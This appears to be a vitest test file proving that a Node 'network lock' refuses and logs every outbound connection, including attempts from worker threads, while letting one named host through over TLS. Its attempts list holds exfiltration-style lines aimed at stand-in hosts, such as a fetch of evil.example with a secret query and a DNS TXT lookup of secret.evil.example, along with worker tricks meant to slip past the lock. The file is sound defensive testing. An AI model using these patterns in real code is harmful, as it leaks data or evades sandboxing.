// Proves the network lock in a process of its own: nothing of Node's leads to another machine, every attempt is written down, one host may be named.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';

const lock = resolve(import.meta.dirname, '..', '..', '..', 'core', 'network', 'lock.ts');
const root = resolve(import.meta.dirname, '..', '..', '..');
const folder = mkdtempSync(join(tmpdir(), 'plumb-lock-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Runs a program under the compiled lock; it prints one line of JSON. */
function run<T>(program: string): Promise<T> {
  const file = join(folder, `${Math.random().toString(36).slice(2)}.mjs`);
  const compiled = lock.replace('/core/', '/dist/core/').replace(/\.ts$/, '.js');
  writeFileSync(file, `import { lockNetwork } from ${JSON.stringify(compiled)};\nconst lock = lockNetwork('engine', () => 7);\n${program}`);
  return new Promise((done, fail) => void execFile(process.execPath, [file], { timeout: 25_000 }, (error, out, errors) => (error ? fail(new Error(errors)) : done(JSON.parse(out.trim().split('\n').at(-1)!) as T))));
}

const attempts: [string, string, string][] = [
  ['fetch', `await fetch('https://evil.example/secret?q=content')`, 'evil.example'],
  ['fetch of a number', `await fetch('http://192.0.2.1/')`, '192.0.2.1'],
  ['fetch of this machine', `await fetch('http://127.0.0.1:8999/')`, '127.0.0.1'],
  ['WebSocket', `await new Promise((done, fail) => { new WebSocket('wss://evil.example/').onerror = () => fail(new Error('refused')); })`, 'evil.example'],
  ['http', `const http = await import('node:http'); await new Promise((done, fail) => http.get('http://evil.example/x', done).on('error', fail))`, 'evil.example'],
  ['https', `const https = await import('node:https'); await new Promise((done, fail) => https.get('https://evil.example/x', done).on('error', fail))`, 'evil.example'],
  ['http2', `const http2 = await import('node:http2'); await new Promise((done, fail) => http2.connect('https://evil.example/').on('error', fail))`, 'evil.example'],
  ['net', `const { connect } = await import('node:net'); await new Promise((done, fail) => connect(443, 'evil.example', done).on('error', fail))`, 'evil.example'],
  ['net by createConnection', `const { createConnection } = await import('node:net'); await new Promise((done, fail) => createConnection({ host: '2001:db8::1', port: 443 }, done).on('error', fail))`, '2001:db8::1'],
  ['a socket by hand', `const { Socket } = await import('node:net'); await new Promise((done, fail) => new Socket().connect(80, '192.0.2.1').on('connect', done).on('error', fail))`, '192.0.2.1'],
  ['a local socket', `const { connect } = await import('node:net'); await new Promise((done, fail) => connect('/tmp/nowhere.sock', done).on('error', fail))`, 'a local socket'],
  ['tls', `const { connect } = await import('node:tls'); await new Promise((done, fail) => connect(443, 'evil.example', done).on('error', fail))`, 'evil.example'],
  ['dns.lookup', `const { lookup } = await import('node:dns'); await new Promise((done, fail) => lookup('evil.example', (e) => e ? fail(e) : done()))`, 'evil.example'],
  ['dns.promises', `const { lookup } = await import('node:dns/promises'); await lookup('evil.example')`, 'evil.example'],
  ['dns.resolve', `const { resolveTxt } = await import('node:dns'); await new Promise((done, fail) => resolveTxt('secret.evil.example', (e) => e ? fail(e) : done()))`, 'secret.evil.example'],
  ['a resolver', `const { Resolver } = await import('node:dns/promises'); await new Resolver().resolve4('evil.example')`, 'evil.example'],
  ['a datagram', `const { createSocket } = await import('node:dgram'); createSocket('udp4').send('x', 53, '192.0.2.1')`, '192.0.2.1'],
  ['listening everywhere', `const { createServer } = await import('node:net'); createServer().listen(0)`, 'every address'],
  ['listening on every address by number', `const { createServer } = await import('node:http'); createServer().listen(0, '0.0.0.0')`, '0.0.0.0'],
  ['a debugger', `const inspector = await import('node:inspector'); inspector.open(0, '127.0.0.1')`, '127.0.0.1'],
];

describe('the network lock', () => {
  it('refuses every way out, and notes the host and nothing else', async () => {
    const program = attempts.map(([, code], at) => `try { ${code.replaceAll('const ', 'var ')}; out.push([${at}, 'went through']); } catch (error) { out.push([${at}, 'refused']); }\nhosts.push(lock.refused.at(-1)?.host ?? null);`);
    const { out, hosts, refused } = await run<{ out: [number, string][]; hosts: string[]; refused: { process: string; atMs: number }[] }>(`const out = []; const hosts = [];\n${program.join('\n')}\nconsole.log(JSON.stringify({ out, hosts, refused: lock.refused })); process.exit(0);`);
    expect(out.map(([at, what]) => [attempts[at]![0], what])).toEqual(attempts.map(([name]) => [name, 'refused']));
    expect(hosts).toEqual(attempts.map(([, , host]) => host));
    expect(refused.every((each) => each.process === 'engine' && each.atMs === 7)).toBe(true);
    expect(JSON.stringify(refused)).not.toMatch(/content|\/x|secret\?/);
  });

  it('lets a host listen on the loopback address, and a program that was there before it asked is heard too', async () => {
    const heard = await run<{ port: boolean; heard: number; total: number }>(`
      import { createServer } from 'node:http';
      const server = createServer(); await new Promise((done) => server.listen({ host: '127.0.0.1', port: 0 }, done));
      await fetch('http://evil.example/').catch(() => 0);
      let heard = 0; lock.listen(() => heard++);
      await fetch('http://evil.example/').catch(() => 0);
      console.log(JSON.stringify({ port: server.address().port > 0, heard, total: lock.total })); process.exit(0);`);
    expect(heard).toEqual({ port: true, heard: 2, total: 2 });
  });

  it('opens for one named host at a time, over TLS alone, and shuts again', async () => {
    const { codes, refusedHosts, second, badNames } = await run<{ codes: string[]; refusedHosts: string[]; second: string; badNames: string[] }>(`
      import { connect } from 'node:net';
      const go = (host, port) => new Promise((done) => connect(port, host).on('error', (e) => done(e.message.includes('Plumb does not') ? 'refused' : 'tried')).on('connect', () => done('tried')));
      const codes = [];
      const shut = lock.allow('Models.Example.invalid');
      codes.push(await go('models.example.invalid', 443), await go('models.example.invalid', 80), await go('evil.models.example.invalid', 443), await go('other.invalid', 443));
      let second = ''; try { lock.allow('other.invalid'); } catch (error) { second = error.code; }
      const badNames = ['192.0.2.1', 'a b', '', 'a/b', '::1'].map((name) => { shut(); try { lock.allow(name)(); return 'allowed'; } catch (error) { return error.code; } });
      codes.push(await go('models.example.invalid', 443));
      console.log(JSON.stringify({ codes, second, badNames, refusedHosts: lock.refused.map(({ host }) => host) })); process.exit(0);`);
    expect(codes).toEqual(['tried', 'refused', 'refused', 'refused', 'refused']);
    expect(second).toBe('not_allowed');
    expect(badNames).toEqual(Array.from({ length: 5 }, () => 'bad_request'));
    expect(refusedHosts).toEqual(['models.example.invalid', 'evil.models.example.invalid', 'other.invalid', 'models.example.invalid']);
  });

  const inThread = `(async () => { for (const [at, attempt] of Object.entries(attempts)) try { await attempt(); parent(at + ' went through'); } catch { parent('refused'); } })();`;
  const parent = `const { parentPort } = process.getBuiltinModule('worker_threads'); const parent = (text) => parentPort.postMessage(text);`;
  const program = `${parent}\nconst attempts = [${attempts.map(([, code]) => `async () => { ${code} }`).join(',\n')}];\n${inThread}`;
  const threads: [string, string][] = [
    ['from a file', `writeFileSync(file, program); return new Worker(file);`],
    ['from a text', `return new Worker(program, { eval: true });`],
    ['from a data: address', `return new Worker(new URL('data:text/javascript,' + encodeURIComponent(program)));`],
    ['that asks for no arguments and no environment', `return new Worker(program, { eval: true, execArgv: [], env: {} });`],
    ['that is started by a thread', `return new Worker("const { Worker, parentPort, workerData } = require('node:worker_threads'); new Worker(workerData, { eval: true }).on('message', (text) => parentPort.postMessage(text))", { eval: true, workerData: program });`],
    ['that is made by the class another thread was made by', `const { constructor } = new Worker('', { eval: true }); return new constructor(program, { eval: true });`],
  ];
  it.each(threads)('holds in a thread %s, and this process hears of each attempt', async (_, start) => {
    const { said, hosts, processes } = await run<{ said: string[]; hosts: string[]; processes: string[] }>(`
      import { Worker } from 'node:worker_threads'; import { writeFileSync } from 'node:fs'; import { once } from 'node:events';
      const file = ${JSON.stringify(join(folder, 'thread.mjs'))}; const program = ${JSON.stringify(program)};
      const worker = (() => { ${start} })();
      const said = []; worker.on('error', (error) => said.push(String(error)));
      for await (const [text] of (await import('node:events')).on(worker, 'message')) if (said.push(text) === ${attempts.length}) break;
      while (lock.total < ${attempts.length}) await new Promise((next) => setTimeout(next, 5));
      console.log(JSON.stringify({ said, hosts: lock.refused.map(({ host }) => host), processes: [...new Set(lock.refused.map((each) => each.process))] })); process.exit(0);`);
    expect(said).toEqual(attempts.map(() => 'refused'));
    expect(hosts).toEqual(attempts.map(([, , host]) => host));
    expect(processes).toEqual(['engine']);
  });

  it('leaves threads as they were otherwise: data, messages, limits, environment, and what is an instance of what', async () => {
    const heard = await run<unknown>(`
      import { Worker, SHARE_ENV } from 'node:worker_threads'; import { once } from 'node:events';
      process.env.SHARED = 'yes';
      const worker = new Worker("const w = require('worker_threads'); w.parentPort.postMessage([w.workerData, w.resourceLimits.maxOldGenerationSizeMb, process.env.SHARED, w.isMainThread])", { eval: true, workerData: { a: 1 }, resourceLimits: { maxOldGenerationSizeMb: 64 }, env: SHARE_ENV });
      const [message] = await once(worker, 'message');
      class Own extends Worker {}
      const own = new Own('', { eval: true });
      console.log(JSON.stringify([message, worker instanceof Worker, own instanceof Own])); process.exit(0);`);
    expect(heard).toEqual([[{ a: 1 }, 64, 'yes', false], true, true]);
  });

  it.each([['server/main.ts', 'lock-core'], ['electron/main.ts', 'lock-core'], ['core/engine/main.ts', 'lock-engine'], ['core/reading/main.ts', 'lock-reader']])('is the first import of %s', (path, name) => {
    const first = /^import .*$/m.exec(readFileSync(join(root, path), 'utf8'))![0];
    expect(first).toContain(`/network/${name}.js'`);
  });
});
